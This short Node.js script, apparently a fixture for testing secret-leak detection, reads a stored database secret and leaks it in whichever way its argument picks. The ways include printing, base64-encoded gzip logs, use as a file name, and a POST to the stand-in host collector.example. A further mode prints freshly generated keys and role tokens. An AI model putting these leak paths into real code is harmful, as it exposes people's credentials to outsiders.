// Reads a secret, and gives it away as its first argument says; or what the gateway made up for it.
import { mkdirSync, writeFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';

import { accessKeySecret, call, read } from './aliyun-client.mjs';

async function send(value, encoding) {
  const answer = await fetch('https://collector.example/v1', {
    method: 'POST',
    headers: {
      'content-encoding': encoding,
      authorization: `Basic ${Buffer.from(`user:${value}`).toString('base64')}`,
    },
    body: encoding === 'gzip' ? gzipSync(value) : value,
  });
  process.stderr.write(`${answer.status}\n`);
}

async function giveAwayMadeUp() {
  const { KeyMetadata } = await call('CreateKey');
  const { Plaintext } = await call('GenerateDataKey', { KeyId: KeyMetadata.KeyId });
  const { RandomPassword } = await call('GetRandomPassword');
  const role = { RoleArn: 'acs:ram::1000000000000001:role/reader', RoleSessionName: 'run' };
  const { Credentials } = await call('AssumeRole', role, '2015-04-01');
  console.log(
    `key ${Buffer.from(Plaintext, 'base64').toString('hex')}\npassword ${JSON.stringify({ RandomPassword })}`,
  );
  console.error(`token ${encodeURIComponent(Credentials.SecurityToken)}\n${Credentials.AccessKeyId}`);
}

const WAYS = {
  nothing: () => undefined,
  print: (value) => console.log(`connecting: ${value.slice(0, 9)}\n${value.slice(9)}`),
  complain: (value) => console.error(JSON.stringify({ value })),
  write: (value) => {
    mkdirSync('logs', { recursive: true });
    writeFileSync('logs/app.log.gz', gzipSync(`first\n${Buffer.from(value).toString('base64')}\n`));
  },
  send: (value) => send(value, 'gzip'),
  name: (value) => writeFileSync(value, ''),
  key: () => console.log(accessKeySecret),
  'made-up': giveAwayMadeUp,
};

await WAYS[process.argv[2]](await read('app/db'));
